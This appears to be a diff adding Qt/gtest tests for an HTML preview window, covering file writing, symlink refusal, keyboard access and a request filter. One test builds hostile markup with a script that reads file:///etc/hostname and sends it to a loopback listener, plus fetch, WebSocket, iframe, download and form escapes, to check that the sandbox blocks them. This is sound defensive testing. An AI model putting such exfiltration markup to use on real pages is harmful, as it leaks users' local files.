@@ -1,21 +1,38 @@
-#include "PreviewTesting.h"
+#include "engine/RandomSource.h"
+#include "forms/preview/BackgroundLines.h"
 #include "forms/preview/BrowserCheck.h"
+#include "forms/preview/PreviewFile.h"
 #include "forms/preview/PreviewNotices.h"
+#include "forms/preview/PreviewRequestFilter.h"
 #include "forms/preview/Tinta2.h"
 #include "forms/preview/ViewHtmlFade.h"
 #include "tests/testing/FreshUserFolders.h"
+#include "tests/testing/KeyboardTour.h"
+#include "tests/testing/TestFiles.h"
+#include "winhelpers/Services.h"
+#include "winhelpers/testing/AnsweringDialogs.h"
 
 #include <QApplication>
 #include <QDir>
 #include <QFile>
+#include <QFileInfo>
+#include <QHostAddress>
+#include <QImage>
+#include <QPushButton>
 #include <QRegularExpression>
 #include <QScopeGuard>
 #include <QSignalSpy>
+#include <QTcpServer>
+#include <QTcpSocket>
+#include <QTemporaryDir>
 #include <QTest>
+#include <QWebEngineDownloadRequest>
+#include <QWebEngineProfile>
 #include <QWebEngineView>
 
 #include <gtest/gtest.h>
 
+#include <algorithm>
 #include <csignal>
 #include <sys/resource.h>
 #include <tuple>
@@ -24,7 +41,147 @@ using namespace Qt::StringLiterals;
 
 namespace {
 
-using PreviewWindow = PreviewFixture;
+constexpr int LoadTimeoutMs = 10000;
+constexpr int SettleTimeoutMs = 5000;
+
+// What the file holds after "View HTML Fade" with the given opening line and fragment bytes.
+QByteArray PageBytes(const QByteArray &line1, const QByteArray &fragment)
+{
+    return "\xEF\xBB\xBF" + line1 + "\r\n" + fragment + "</BODY></HTML>\r\n";
+}
+
+// Waits, at most a few seconds, until the page under way has loaded, however many refused
+// attempts to leave it report their failure meanwhile.
+bool WaitForLoad(QWebEngineView &view)
+{
+    QSignalSpy loaded(&view, &QWebEngineView::loadFinished);
+    return QTest::qWaitFor(
+        [&] {
+            return std::ranges::any_of(
+                loaded, [](const QList<QVariant> &args) { return args[0].toBool(); });
+        },
+        LoadTimeoutMs);
+}
+
+// The colour a user sees at a point of the view once it has settled, within a few seconds. The
+// caller compares what was seen, which names the colour when it never settled.
+QColor SettledPixel(QWebEngineView &view, QPoint point, QColor expected)
+{
+    QColor seen;
+    static_cast<void>(QTest::qWaitFor(
+        [&] { return (seen = view.grab().toImage().pixelColor(point)) == expected; },
+        SettleTimeoutMs));
+    return seen;
+}
+
+// The text the page shows.
+QString ShownText(QWebEngineView &view)
+{
+    std::optional<QString> result;
+    view.page()->toPlainText([&](const QString &text) { result = text; });
+    EXPECT_TRUE(QTest::qWaitFor([&] { return result.has_value(); }, SettleTimeoutMs))
+        << "no text came back";
+    return result.value_or(QString());
+}
+
+// A main window, its services and a preview file in a folder of its own.
+class PreviewWindow : public testing::Test
+{
+protected:
+    PreviewWindow() { mainWindow.resize(200, 100); }
+
+    Tinta2 *view(const QString &outputText, bool stayOnTop = false)
+    {
+        return ViewHtmlFade(mainWindow, outputText, services, stayOnTop, file);
+    }
+    Tinta2 *viewAndLoad(const QString &outputText)
+    {
+        Tinta2 *preview = view(outputText);
+        EXPECT_TRUE(preview && WaitForLoad(*preview->browser())) << "the preview did not load";
+        return preview;
+    }
+    static void click(Tinta2 &preview, const char *button)
+    {
+        auto *pushButton = preview.findChild<QPushButton *>(QLatin1String(button));
+        ASSERT_NE(pushButton, nullptr) << button;
+        QTest::mouseClick(pushButton, Qt::LeftButton);
+    }
+    QByteArray fileBytes() const { return ReadBytes(file.path()); }
+
+    QTemporaryDir folder;
+    PreviewFile file {folder.path()};
+    AnsweringDialogs dialogs;
+    RandomSource random {1};
+    Services services {dialogs, random};
+    QWidget mainWindow;
+};
+
+using PreviewFileTest = PreviewWindow;
+using PreviewAccessibility = PreviewWindow;
+using HostileMarkup = PreviewWindow;
+
+TEST_F(PreviewFileTest, WritesThePlainOpeningLineThenTheFragmentInUtf8WithCrLfOrGivesTheReason)
+{
+    const std::pair<QString, QByteArray> cases[] = {
+        {u"<B>\u00E5\u0192\u2020\u2021 \U0001F600</B>"_s,
+         "<B>\xC3\xA5\xC6\x92\xE2\x80\xA0\xE2\x80\xA1 \xF0\x9F\x98\x80</B>"},
+        {u"<B>a\nb\r\nc\rd</B>"_s, "<B>a\r\nb\r\nc\r\nd</B>"}};
+    for (const auto &[fragment, fragmentBytes] : cases) {
+        ASSERT_TRUE(file.writeForView(fragment));
+        EXPECT_EQ(fileBytes(), PageBytes("<HTML><BODY>", fragmentBytes));
+        // Writing again starts from scratch, whatever line 1 became meanwhile.
+        ASSERT_EQ(file.replaceOpeningLine(WhiteOpeningLine()), PreviewFile::Replaced::Yes);
+    }
+    // A plain file where its folder should be cannot hold it, nor can no folder at all.
+    for (const QString &unusable : {file.path(), QString()}) {
+        const PreviewFile unwritable(unusable);
+        QString error;
+        EXPECT_FALSE(unwritable.writeForView(u"<B>x</B>"_s, &error));
+        EXPECT_FALSE(error.isEmpty());
+        EXPECT_FALSE(QFile::exists(PreviewFile::FileName));
+    }
+}
+
+TEST_F(PreviewFileTest, NeverWritesNorReadsThroughALinkPlantedUnderItsName)
+{
+    QTemporaryDir elsewhere;
+    const QString target = elsewhere.filePath(u"precious"_s);
+    WriteBytes(target, "precious\r\nlines\r\n");
+    ASSERT_TRUE(QFile::link(target, file.path()));
+    EXPECT_EQ(file.replaceOpeningLine(WhiteOpeningLine()), PreviewFile::Replaced::NothingToReplace);
+    ASSERT_TRUE(file.writeForView(u"<B>x</B>"_s));
+    EXPECT_FALSE(QFileInfo(file.path()).isSymLink());
+    EXPECT_EQ(fileBytes(), PageBytes("<HTML><BODY>", "<B>x</B>"));
+    EXPECT_EQ(ReadBytes(target), QByteArray("precious\r\nlines\r\n"));
+
+    file.remove();
+    ASSERT_TRUE(QFile::link(target, file.path()));
+    file.remove();
+    EXPECT_FALSE(QFileInfo(file.path()).isSymLink());
+    EXPECT_EQ(ReadBytes(target), QByteArray("precious\r\nlines\r\n"));
+}
+
+TEST_F(PreviewFileTest, ReplacingTheOpeningLineKeepsEverythingAfterItOrLeavesTheFileAlone)
+{
+    using enum PreviewFile::Replaced;
+    // What the file holds (none: no file), what becomes of it, and what it holds then.
+    const std::tuple<const char *, std::optional<QByteArray>, PreviewFile::Replaced, QByteArray>
+        cases[] = {{"page", PageBytes("<HTML><BODY>", "<B>a\r\nb</B>\r\nc"), Yes,
+                    PageBytes("<HTML><BODY BGCOLOR=\"white\">", "<B>a\r\nb</B>\r\nc")},
+                   {"missing", std::nullopt, NothingToReplace, {}},
+                   {"empty", "", NothingToReplace, ""},
+                   {"one line", "<HTML><BODY>\r\n", NothingToReplace, "<HTML><BODY>\r\n"},
+                   {"one line without line end", "<HTML><BODY>", NothingToReplace, "<HTML><BODY>"}};
+    for (const auto &[name, before, replaced, after] : cases) {
+        SCOPED_TRACE(name);
+        file.remove();
+        if (before)
+            WriteBytes(file.path(), *before);
+        EXPECT_EQ(file.replaceOpeningLine(WhiteOpeningLine()), replaced);
+        EXPECT_EQ(QFile::exists(file.path()), before.has_value());
+        EXPECT_EQ(fileBytes(), after);
+    }
+}
 
 // A critical "Error" box that names what failed.
 void ExpectError(const Notice &notice, const QStringList &named)
@@ -204,6 +361,155 @@ TEST_F(PreviewWindow, ShowsTheFragmentAndAViewWhileOpenRewritesWithoutReloading)
     Tinta2 *again = view(u"<I>y</I>"_s, true);
     ASSERT_NE(again, nullptr);
     EXPECT_TRUE(again->windowFlags().testFlag(Qt::WindowStaysOnTopHint));
+}
+
+// Tab goes round the three buttons, and Escape closes the window, also from the page.
+TEST_F(PreviewAccessibility, TheButtonsAreNamedInTabOrderAndEscapeCloses)
+{
+    Tinta2 *preview = viewAndLoad(u"<B>H</B>"_s);
+    QApplication::setActiveWindow(preview);
+    ExpectKeyboardTour(*preview, u"Command1 Command2 Command3"_s);
+    preview->browser()->setFocus();
+    QTest::keyClick(preview->focusWidget(), Qt::Key_Escape);
+    EXPECT_FALSE(QFile::exists(file.path()));
+}
+
+// A listener on the loopback that notes every connection made to it and what it was sent.
+class Listener
+{
+public:
+    Listener()
+    {
+        EXPECT_TRUE(m_server.listen(QHostAddress::LocalHost));
+        QObject::connect(&m_server, &QTcpServer::newConnection, [this] {
+            while (QTcpSocket *socket = m_server.nextPendingConnection()) {
+                ++m_connections;
+                QObject::connect(socket, &QTcpSocket::readyRead,
+                                 [this, socket] { m_received += socket->readAll(); });
+            }
+        });
+    }
+
+    QString url(const QString &path) const
+    {
+        return u"http://127.0.0.1:%1/%2"_s.arg(m_server.serverPort()).arg(path);
+    }
+
+    int connections() const { return m_connections; }
+    const QByteArray &received() const { return m_received; }
+
+private:
+    QTcpServer m_server;
+    int m_connections = 0;
+    QByteArray m_received;
+};
+
+// Markup that tries every way out of the page: scripts that read a local file and send it,
+// resources, a frame and a refresh that call the listener, links, a pop-up, a download and a
+// form that a click would follow, and a picture from elsewhere on the disk.
+QString hostileMarkup(const Listener &listener, const QString &localPicture)
+{
+    const QString ws = listener.url(u"socket"_s).replace(u"http:"_s, u"ws:"_s);
+    return uR"(<script>
+var request = new XMLHttpRequest();
+request.open("GET", "file:///etc/hostname", false);
+request.send();
+new Image().src = "%1?" + encodeURIComponent(request.responseText);
+fetch("%2");
+new WebSocket("%3");
+document.title = "script ran";
+</script>
+<img src="%4"><link rel="stylesheet" href="%5"><iframe src="%6"></iframe>
+<meta http-equiv="refresh" content="0; url=%7">
+<a href="%8" style="position:absolute;left:40px;top:40px;width:60px;height:30px;display:block">a</a>
+<a href="%9" target="_blank" style="position:absolute;left:110px;top:40px;width:60px;height:30px;display:block">b</a>
+<a href="%10" download style="position:absolute;left:180px;top:40px;width:60px;height:30px;display:block">c</a>
+<form action="%11"><input type="submit" style="position:absolute;left:40px;top:100px;width:60px;height:30px"></form>
+<img src="%12" style="position:absolute;left:150px;top:100px;width:40px;height:40px">)"_s
+        .arg(listener.url(u"xhr"_s), listener.url(u"fetch"_s), ws, listener.url(u"image"_s),
+             listener.url(u"style"_s), listener.url(u"frame"_s), listener.url(u"refresh"_s),
+             listener.url(u"link"_s), listener.url(u"popup"_s))
+        .arg(listener.url(u"download"_s), listener.url(u"form"_s),
+             QUrl::fromLocalFile(localPicture).toString());
+}
+
+// Where each link, button and the local picture stand on the page.
+const QPoint Targets[] = {{70, 55}, {140, 55}, {210, 55}, {70, 115}};
+const QPoint LocalPicture(170, 120);
+
+QString savePicture(const QString &path, QColor colour)
+{
+    QImage picture(16, 16, QImage::Format_RGB32);
+    picture.fill(colour);
+    EXPECT_TRUE(picture.save(path, "PNG"));
+    return path;
+}
+
+TEST(PreviewRequestFilter, LetsThroughOnlyThePageAndTheChosenPicture)
+{
+    const QUrl page =
+        QUrl::fromLocalFile(u"/run/user/1000/Tintra-preview-1-a/DUVxORxQYzVIEWER.HTM"_s);
+    PreviewRequestFilter filter(page);
+    const QString picture = u"/home/me/my \"best\" #1 50% & caf\u00E9's.png"_s;
+    EXPECT_TRUE(filter.allows(page));
+    EXPECT_FALSE(filter.allows(QUrl(PictureUrl(picture))));
+    filter.allowPicture(picture);
+    const std::pair<QUrl, bool> cases[] = {{page, true},
+                                           {QUrl(PictureUrl(picture)), true},
+                                           {QUrl::fromLocalFile(picture), true},
+                                           {QUrl(PictureUrl(picture) + u"?leak=1"_s), false},
+                                           {QUrl(u"file:///etc/hostname"_s), false},
+                                           {QUrl(u"file://elsewhere/home/me/picture.png"_s), false},
+                                           {QUrl(u"http://127.0.0.1:8080/"_s), false},
+                                           {QUrl(u"ws://127.0.0.1:8080/"_s), false},
+                                           {QUrl(u"https://example.com/picture.png"_s), false},
+                                           {QUrl(u"data:image/png;base64,AAAA"_s), false}};
+    for (const auto &[url, allowed] : cases)
+        EXPECT_EQ(filter.allows(url), allowed) << url.toString().toStdString();
+    // A later choice takes the place of the earlier one.
+    filter.allowPicture(u"/home/me/other.png"_s);
+    EXPECT_FALSE(filter.allows(QUrl::fromLocalFile(picture)));
+}
+
+TEST_F(HostileMarkup, ReachesNothingAndThePictureBackgroundStillShows)
+{
+    Listener listener;
+    QTemporaryDir elsewhere;
+    const QString red = savePicture(elsewhere.filePath(u"private.png"_s), Qt::red);
+    Tinta2 *preview = viewAndLoad(hostileMarkup(listener, red));
+    ASSERT_NE(preview, nullptr);
+    const qsizetype windows = QApplication::topLevelWidgets().size();
+    QWebEngineView &page = *preview->browser();
+    for (const QPoint target : Targets)
+        QTest::mouseClick(page.focusProxy(), Qt::LeftButton, {}, target);
+    QTest::qWait(500);
+
+    dialogs.answerOpenFile(savePicture(folder.filePath(u"back.png"_s), Qt::blue));
+    click(*preview, "Command2");
+    ASSERT_TRUE(WaitForLoad(page));
+    EXPECT_EQ(SettledPixel(page, {3, 3}, Qt::blue), QColor(Qt::blue));
+    EXPECT_NE(page.grab().toImage().pixelColor(LocalPicture), QColor(Qt::red));
+
+    // Time for anything under way to arrive.
+    QTest::qWait(1000);
+    EXPECT_EQ(listener.connections(), 0) << listener.received().toStdString();
+    EXPECT_NE(page.title(), u"script ran"_s);
+    EXPECT_EQ(page.url(), file.url());
+    EXPECT_EQ(QApplication::topLevelWidgets().size(), windows);
+}
+
+TEST_F(HostileMarkup, NothingIsDownloaded)
+{
+    Tinta2 *preview = viewAndLoad(u"<B>x</B>"_s);
+    ASSERT_NE(preview, nullptr);
+    QWebEnginePage &page = *preview->browser()->page();
+    std::optional<QWebEngineDownloadRequest::DownloadState> state;
+    QObject::connect(
+        page.profile(), &QWebEngineProfile::downloadRequested,
+        [&state](const QWebEngineDownloadRequest *download) { state = download->state(); });
+    page.download(file.url());
+    ASSERT_TRUE(QTest::qWaitFor([&] { return state.has_value(); }, 5000));
+    EXPECT_EQ(state, QWebEngineDownloadRequest::DownloadCancelled);
 }
 
 } // namespace
